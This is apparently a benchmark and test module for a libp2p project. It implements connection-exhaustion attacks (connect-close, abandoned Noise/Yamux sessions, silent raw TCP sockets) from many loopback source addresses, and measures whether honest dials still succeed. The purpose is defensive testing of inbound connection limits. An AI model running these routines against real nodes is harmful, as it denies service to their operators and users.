"""Connection-exhaustion attacks on a node's listener, and the honest dials that must still get in
(issue 16, finding H2; ``benchmarks/attacks/conn_exhaust.py`` and ``tests/test_inbound_limits.py``).

Three kinds of attacking connection, each from source addresses of its own on 127.0.0.0/8 (Linux
routes the whole /8 to the loopback interface, so one machine can dial from many "IPs" and
/24s; the honest dialer uses 127.0.0.1):

* **connect-close**: TCP + Noise + Yamux negotiated, then closed at once (py-libp2p 0.8.1 kept
  a slot per such connection);
* **abandoned**: negotiated, then never read from and never closed, as a peer that vanished
  without a FIN (its kernel keeps acknowledging, so TCP alone never ends it);
* **raw**: a TCP socket that never sends a byte (no identity needed).

Every function takes the target's ``/ip4/.../tcp/<port>/p2p/<peer ID>`` multiaddr.
"""

from __future__ import annotations

import socket
from dataclasses import dataclass, field

import trio
from libp2p.peer.id import ID

from ps_p2p.keys import Identity
from ps_p2p.protocols.host import build_host, connect, open_host, parse_multiaddr


def source_ips(network: int, count: int) -> list[str]:
    """``count`` source IPs in ``127.0.<network>.0/24`` (1..count), one /24 per ``network``."""
    if not 1 <= count <= 254 or not 0 < network < 256:
        raise ValueError("1..254 addresses in 127.0.1.0/24 .. 127.0.255.0/24")
    return [f"127.0.{network}.{i}" for i in range(1, count + 1)]


@dataclass
class Held:
    """Attacking connections still held open by the attacker (closed by :meth:`aclose`)."""

    secured: list[object] = field(default_factory=list)
    raw: list[trio.socket.SocketType] = field(default_factory=list)

    def raw_closed_by_target(self) -> int:
        """Raw sockets the target has closed (a read returns end of file at once)."""
        return sum(_closed_by_peer(sock) for sock in self.raw)

    def secured_closed_by_target(self) -> int:
        """Negotiated connections the target has closed (their socket reads end of file)."""
        return sum(_closed_by_peer(sock) for sock in map(_socket_of, self.secured)
                   if sock is not None)

    async def aclose(self) -> None:
        with trio.CancelScope(shield=True):
            for conn in self.secured:
                try:
                    await conn.close()  # type: ignore[attr-defined]
                except Exception:
                    pass
            for sock in self.raw:
                sock.close()
        self.secured.clear()
        self.raw.clear()


def _closed_by_peer(sock: trio.socket.SocketType) -> bool:
    """Whether the peer closed (FIN) or reset ``sock``: its TCP state (Linux ``TCP_INFO``) is no
    longer ESTABLISHED. (A read would not tell: the peer's unread frames come first.)"""
    try:
        info = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)
    except OSError:
        return True
    return info[0] != _TCP_ESTABLISHED


_TCP_ESTABLISHED = 1


#: Attributes leading from a py-libp2p 0.8.1 secured connection down to its trio stream:
#: SecureSession.conn -> NoiseMsgReadWriter.read_writer -> NoisePacketReadWriter.read_write_closer
#: -> RawConnection.stream -> TrioTCPStream.stream -> trio.SocketStream.
_LAYERS = ("conn", "read_writer", "read_write_closer", "stream")


def _socket_of(conn: object) -> trio.socket.SocketType | None:
    """The OS socket under a py-libp2p secured connection (Noise -> RawConnection -> trio)."""
    seen = 0
    current: object | None = conn
    while current is not None and seen < 8:
        seen += 1
        if isinstance(current, trio.SocketStream):
            return current.socket
        current = next((getattr(current, name) for name in _LAYERS
                        if getattr(current, name, None) is not None), None)
    return None


async def _negotiate(dialer, transport, maddr, peer: ID, source: str):  # type: ignore[no-untyped-def]
    raw = await transport.dial_with_source(maddr, (source, 0))
    try:
        secured = await dialer.upgrader.upgrade_security(raw, True, peer)
        await dialer.upgrader.upgrade_connection(secured, peer)  # Yamux never started: unread
    except BaseException:
        with trio.CancelScope(shield=True):
            await raw.close()
        raise
    return secured


async def negotiated_dials(
    target: str, sources: list[str], count: int, *, keep: Held | None, concurrency: int = 8,
    timeout: float = 10.0,
) -> int:
    """``count`` TCP + Noise + Yamux negotiations with ``target``, round-robin over ``sources``.

    Args:
        keep: None: each connection is closed once negotiated (connect-close); else each is
            kept unread in ``keep.secured`` (abandoned).

    Returns:
        negotiations that completed (the target may close a kept one right after).
    """
    maddr = parse_multiaddr(target)
    peer = ID.from_base58(maddr.value_for_protocol("p2p"))
    tcp = maddr.decapsulate(parse_multiaddr(f"/p2p/{peer.to_base58()}"))
    done = 0
    next_index = 0

    async def worker() -> None:
        nonlocal done, next_index
        while next_index < count:
            i = next_index
            next_index += 1
            dialer = build_host(Identity.generate()).get_network()  # identities are free
            transport = dialer.transport_manager.transport_for_dialing(tcp)
            try:
                with trio.fail_after(timeout):
                    secured = await _negotiate(dialer, transport, tcp, peer, sources[i % len(sources)])
            except Exception:
                continue
            done += 1
            if keep is None:
                try:
                    await secured.close()
                except Exception:
                    pass
            else:
                keep.secured.append(secured)

    async with trio.open_nursery() as nursery:
        for _ in range(concurrency):
            nursery.start_soon(worker)
    return done


async def raw_sockets(target: str, sources: list[str], count: int, held: Held) -> int:
    """Open ``count`` TCP connections to ``target`` that never send a byte (kept in
    ``held.raw``), round-robin over ``sources``. Returns those whose connect succeeded."""
    maddr = parse_multiaddr(target)
    host = maddr.value_for_protocol("ip4")
    port = int(maddr.value_for_protocol("tcp"))
    opened = 0
    limiter = trio.CapacityLimiter(64)

    async def one(i: int) -> None:
        nonlocal opened
        async with limiter:
            sock = trio.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                await sock.bind((sources[i % len(sources)], 0))
                with trio.fail_after(5):
                    await sock.connect((host, port))
            except (OSError, trio.TooSlowError):
                sock.close()
                return
            held.raw.append(sock)
            opened += 1

    async with trio.open_nursery() as nursery:
        for i in range(count):
            nursery.start_soon(one, i)
    return opened


async def honest_dials(
    target: str, attempts: int, *, spacing: float = 1.0, timeout: float = 5.0
) -> list[bool]:
    """``attempts`` honest dials from 127.0.0.1 (a fresh host and identity each: py-libp2p caches
    failed peers), one every ``spacing`` seconds: connect and a ping round trip within
    ``timeout`` seconds. Returns the success of each."""
    from libp2p.host.ping import ID as PING_PROTOCOL_ID
    from libp2p.host.ping import perform_ping_roundtrip

    peer = ID.from_base58(parse_multiaddr(target).value_for_protocol("p2p"))
    results: list[bool] = []
    for i in range(attempts):
        if i:
            await trio.sleep(spacing)  # spread over time: a window of the attack, not an instant
        ok = False
        try:
            async with open_host(Identity.generate(), ["/ip4/127.0.0.1/tcp/0"]) as host:
                with trio.fail_after(timeout):
                    await connect(host, target, timeout=timeout)
                    stream = await host.new_stream(peer, [PING_PROTOCOL_ID])
                    await perform_ping_roundtrip(stream)
                    await stream.close()
                ok = True
        except Exception:
            ok = False
        results.append(ok)
    return results


__all__ = ["Held", "honest_dials", "negotiated_dials", "raw_sockets", "source_ips"]
